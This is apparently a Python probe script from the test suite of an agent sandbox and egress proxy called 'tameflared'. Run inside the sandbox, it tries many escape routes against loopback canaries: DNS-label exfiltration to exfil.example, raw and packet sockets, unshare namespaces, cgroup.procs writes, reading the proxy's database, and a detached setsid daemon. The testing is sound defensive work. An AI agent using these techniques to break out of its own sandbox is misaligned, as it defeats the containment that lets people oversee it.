#!/usr/bin/env python3
"""Runs inside an agent and tries every way out; prints one "name=result" line
per attempt. Each attempt either reaches tameflared (the proxy or the DNS
stub) or fails; the test decides which is right. Only loopback addresses are
ever dialed."""
import os
import random
import socket
import string
import struct
import subprocess
import sys

from probe_attempt import attempt


def http_over(family, host, port):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect((host, port))
        peer = s.getpeername()
        s.sendall(b"GET /probe HTTP/1.1\r\nHost: canary.test\r\nConnection: close\r\n\r\n")
        status = s.recv(64).split(b"\r\n")[0].decode(errors="replace")
        return f"peer {peer[0]}:{peer[1]} {status}"


def dns_query(name, qtype=1):
    header = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return header + labels + b"\x00" + struct.pack("!HH", qtype, 1)


def dns_udp(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(dns_query(name), (server, 53))
        reply, source = s.recvfrom(4096)
        rcode = reply[3] & 0x0F
        answers = struct.unpack("!H", reply[6:8])[0]
        return f"from {source[0]}:{source[1]} rcode {rcode} answers {answers}"


def dns_tcp(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((server, 53))
        query = dns_query(name)
        s.sendall(struct.pack("!H", len(query)) + query)
        length = struct.unpack("!H", s.recv(2))[0]
        reply = s.recv(length)
        return f"rcode {reply[3] & 0x0F} answers {struct.unpack('!H', reply[6:8])[0]}"


def exfiltrate(count):
    refused = 0
    for _ in range(count):
        label = "".join(random.choice(string.ascii_lowercase) for _ in range(60))
        if dns_udp("127.0.0.9", f"{label}.exfil.example").endswith("rcode 5 answers 0"):
            refused += 1
    return f"{refused}/{count} refused"


def udp_send(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\xc0quic-shaped", (host, port))
        return "sent"


def make_socket(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "created"


def write_file(path, text):
    with open(path, "w") as f:
        f.write(text)
    return "written"


def read_file(path):
    with open(path, "rb") as f:
        return f"read {len(f.read())} bytes"


def in_new_namespaces(port):
    result = subprocess.run(
        ["unshare", "-Urn", sys.executable, "-c",
         f"import socket; s=socket.socket(); s.settimeout(5); s.connect(('127.0.0.1', {port})); print('connected')"],
        capture_output=True, text=True, timeout=30)
    return result.stdout.strip() or ("failed: " + (result.stderr.strip().splitlines() or ["?"])[-1])


def main():
    canary_tcp, canary_udp, cgroup_mount, state_dir = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
    attempt("uid", lambda: str(os.getuid()))
    attempt("hard_coded_ip", lambda: http_over(socket.AF_INET, "127.0.0.1", canary_tcp))
    attempt("ipv6", lambda: http_over(socket.AF_INET6, "::1", canary_tcp))
    attempt("ipv4_mapped", lambda: http_over(socket.AF_INET6, "::ffff:127.0.0.1", canary_tcp))
    attempt("udp", lambda: udp_send("127.0.0.1", canary_udp))
    attempt("quic", lambda: udp_send("127.0.0.1", 443))
    attempt("dns_allowed", lambda: dns_udp("127.0.0.9", "plain.test"))
    attempt("dns_denied", lambda: dns_udp("127.0.0.9", "canary.test"))
    attempt("dns_tcp", lambda: dns_tcp("127.0.0.9", "plain.test"))
    attempt("dns_exfiltration", lambda: exfiltrate(50))
    attempt("raw", lambda: make_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    attempt("ping", lambda: make_socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
    attempt("packet", lambda: make_socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
    attempt("sctp", lambda: make_socket(socket.AF_INET, socket.SOCK_STREAM, 132))
    attempt("new_namespaces", lambda: in_new_namespaces(canary_tcp))
    attempt("cgroup_escape", lambda: write_file(os.path.join(cgroup_mount, "cgroup.procs"), str(os.getpid())))
    attempt("state_dir", lambda: str(sorted(os.listdir(state_dir))))
    attempt("database", lambda: read_file(os.path.join(state_dir, "tameflared.db")))
    # A daemon of the agent's own: it must stay in the cgroup and end with the agent.
    subprocess.Popen(["setsid", "sleep", "317"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)
    attempt("grandchild", lambda: "started")


main()
